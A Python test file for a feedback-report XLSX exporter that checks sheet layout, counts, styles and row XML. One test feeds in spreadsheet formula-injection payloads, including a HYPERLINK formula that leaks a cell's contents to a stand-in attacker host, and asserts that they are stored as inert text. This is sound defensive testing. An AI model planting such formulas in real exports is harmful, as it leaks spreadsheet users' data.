"""The XLSX workbook: sheets, frozen headers, counts, and comment text that cannot run as a formula."""
from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from datetime import datetime

import pytest
from openpyxl import load_workbook

from report_sample import many_answers_input
from westlake_feedback.exports_safety import FORMULA_TRIGGERS, safe_cell
from westlake_feedback.reports.data import ClauseInfo, compute
from westlake_feedback.reports.xlsx_writer import SHEETS, build_xlsx

MALICIOUS = {
    "R0000": '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "R0001": "＝1+1",
    "R0002": "@SUM(1)",
    "R0003": "\t=1",
    "R0010": "+1+2",
    "R0011": "-2+3",
}


@pytest.fixture(scope="module")
def workbook_bytes(sample_stats, sample_input):
    return build_xlsx(sample_stats, sample_input)


@pytest.fixture(scope="module")
def workbook(workbook_bytes):
    return load_workbook(io.BytesIO(workbook_bytes))


def rows(ws):
    return [list(r) for r in ws.iter_rows(min_row=2, values_only=True)]


def test_sheets_frozen_headers_and_widths(workbook):
    assert workbook.sheetnames == list(SHEETS)
    for ws in workbook.worksheets:
        assert ws.freeze_panes == "A2", ws.title
        assert ws["A1"].font.b, ws.title
        assert ws.column_dimensions["A"].customWidth and ws.column_dimensions["B"].width >= 8, ws.title
        assert ws.print_title_rows.replace("$", "") == "1:1", ws.title
    assert workbook["意见采纳情况"]["C2"].alignment.wrap_text


def test_counts(workbook):
    summary = {(r[0], r[1]): r[2] for r in rows(workbook["概况"])}
    assert summary[("总体", "收到意见")] == 42
    assert summary[("总体", "计入统计的意见")] == 40
    assert summary[("总体", "参与人数")] == 32
    assert summary[("提交渠道", "网上提交")] == 25
    assert summary[("审核结果", "垃圾信息")] == 2
    assert summary[("答复情况", "尚未答复")] == 24
    assert summary[("基本信息", "报告版本")] == 2
    per_day = rows(workbook["每日提交"])
    assert [(d.day, n) for d, n in per_day] == [(15, 5), (16, 9), (17, 0), (18, 7), (19, 0), (20, 10), (21, 7), (22, 2)]
    assert isinstance(per_day[0][0], datetime)
    clauses = rows(workbook["条款意见数"])
    assert [(r[0], r[3], r[4]) for r in clauses] == [
        (None, 4, None), (1, 10, 1), (2, 3, 5), (3, 8, 3), (4, 0, None), (5, 6, 4), (6, 9, 2)]
    stance = rows(workbook["条款意见倾向"])
    assert stance[-1] == ["合计", 15, 7, 12, 6, 40]
    header = [c.value for c in workbook["意见采纳情况"][1]]
    assert header[:5] == ["序号", "条款", "意见摘要", "是否采纳", "理由"]
    adoption = rows(workbook["意见采纳情况"])
    assert len(adoption) == 16 and adoption[0][:5] == [1, "总体意见", "整体赞成，文件的执行力度很关键。", "采纳", "答复0"]
    keywords = rows(workbook["关键词"])
    assert keywords[0] == ["全部意见", 1, "停车位", 26]
    assert ["一、扩大有效投资政策", 1, "停车位", 26] in keywords
    assert rows(workbook["条款综合答复"])[0] == ["总体意见", "总体意见已逐条研究。"]


def test_formula_like_text_is_stored_as_text(input_factory):
    base = input_factory()
    hostile_clause = ClauseInfo(2, "=2.", "=HYPERLINK(\"http://evil.example\")", 1)
    comments = [
        replace(c, body=MALICIOUS.get(c.receipt_code, c.body),
                response=MALICIOUS.get(c.receipt_code, c.response),
                name_public="@admin" if c.name_public else None)
        for c in base.comments
    ]
    report_input = input_factory(title="=1+1 征求意见稿", issuer="@SUM(1)", comments=comments,
                                 clauses=[c if c.number != 2 else hostile_clause for c in base.clauses])
    data = build_xlsx(compute(report_input), report_input)

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name

    workbook = load_workbook(io.BytesIO(data))
    seen = set()
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.value[:1] not in FORMULA_TRIGGERS, (ws.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
    adoption = rows(workbook["意见采纳情况"])
    assert adoption[0][2] == "'" + MALICIOUS["R0000"] and adoption[0][4] == "'" + MALICIOUS["R0000"]
    assert adoption[1][2] == "'＝1+1"
    assert adoption[2][2] == "'@SUM(1)"
    assert adoption[3][4] == "'\t=1"          # the response keeps its tab; the summary folds it to "=1"
    assert adoption[3][2] == "'=1"
    assert adoption[0][6] == "'@admin"
    assert "'=2.=HYPERLINK(\"http://evil.example\")" in seen
    assert "'@SUM(1)" in seen and "'=1+1 征求意见稿" in seen


def test_every_data_cell_of_a_column_has_that_columns_style(workbook):
    """Styles are made once per column and copied to the later rows: every row must still be
    wrapped, and percent and date columns keep their number formats on every row."""
    for ws in workbook.worksheets:
        for column in ws.iter_cols(min_row=2):
            if not column:
                continue
            first = column[0]
            for cell in column:
                assert cell.alignment.wrap_text and cell.alignment.vertical == "top", (ws.title, cell.coordinate)
                assert cell.number_format == first.number_format, (ws.title, cell.coordinate)
    summary = workbook["概况"]
    assert {summary.cell(row=r, column=4).number_format for r in range(2, summary.max_row + 1)} == {"0.0%"}
    assert workbook["每日提交"]["A3"].number_format == "yyyy-mm-dd"


def test_data_rows_are_written_as_openpyxl_writes_them():
    """xlsx_rows writes the data rows' XML itself: byte for byte what openpyxl writes for the same
    values and styles (every kind of value the report has, and text that needs escaping)."""
    import re
    from datetime import date

    from openpyxl import Workbook
    from openpyxl.styles import Alignment

    from westlake_feedback.reports.xlsx_rows import SheetRows

    values = [None, "", "意见", "  前后空格 ", "a & b < c > d ]]>", "第一行\r\n第二行\n第三行", "tab\there",
              "😀 \U0001F600", "'=1+1", "长" * 40000, 0, 7, -12, 2 ** 40, 0.325, 1 / 3, 1e-20, True, False,
              date(2023, 3, 15), datetime(2023, 3, 15, 10, 30)]
    wb = Workbook()
    ws = wb.active
    styles = []
    for column, value in enumerate(values, 1):
        cell = ws.cell(row=2, column=column, value=value)
        cell.alignment = Alignment(wrap_text=True, vertical="top")
        if isinstance(value, date):
            cell.number_format = "yyyy-mm-dd"
        styles.append(cell.style_id)
    buffer = io.BytesIO()
    wb.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    expected = re.search(rb'<row r="2">.*?</row>', sheet, re.S).group(0)
    date_columns = {i for i, value in enumerate(values, 1) if isinstance(value, date)}
    assert SheetRows(styles, date_columns).xml([values]) == expected
    with pytest.raises(ValueError):
        SheetRows(styles).xml([values[:-1]])        # a row short of a value


def test_many_answers_every_row_in_order_with_its_cells():
    """With 2,400 answers every row of 意见采纳情况 is there, in order, with its eight cells and its
    column's style; the sheet's size is stated for readers that go by it (read-only mode)."""
    report_input = many_answers_input()
    stats = compute(report_input)
    data = build_xlsx(stats, report_input)
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook["意见采纳情况"]
    expected = [[r.seq, r.clause_display, safe_cell(r.summary), r.decision_label, safe_cell(r.response),
                 r.receipt_code, r.name_public or None, r.round_number] for r in stats.adoption_rows]
    got = rows(sheet)
    assert len(got) == 2400
    assert got == expected
    assert any("\n" in row[4] for row in got) and any("a & b < c > d ]]>" in row[2] for row in got)
    for row in sheet.iter_rows(min_row=2):
        assert [cell.style_id for cell in row] == [c.style_id for c in sheet[2]]
        assert row[2].alignment.wrap_text and row[2].alignment.vertical == "top"
    read_only = load_workbook(io.BytesIO(data), read_only=True)
    assert [(ws.title, ws.max_row, ws.max_column) for ws in read_only.worksheets] == [
        (ws.title, ws.max_row, ws.max_column) for ws in workbook.worksheets]
    assert workbook["意见采纳情况"].auto_filter.ref == "A1:H2401"


def test_text_that_reads_like_an_error_code_stays_text(input_factory):
    """A comment that is just "#N/A" is the public's text, not an error cell."""
    base = input_factory()
    comments = [replace(c, body="#N/A", response="#DIV/0!") if c.receipt_code == "R0000" else c for c in base.comments]
    report_input = input_factory(comments=comments)
    workbook = load_workbook(io.BytesIO(build_xlsx(compute(report_input), report_input)))
    first = next(workbook["意见采纳情况"].iter_rows(min_row=2))
    assert (first[2].value, first[2].data_type, first[4].value, first[4].data_type) == ("#N/A", "s", "#DIV/0!", "s")
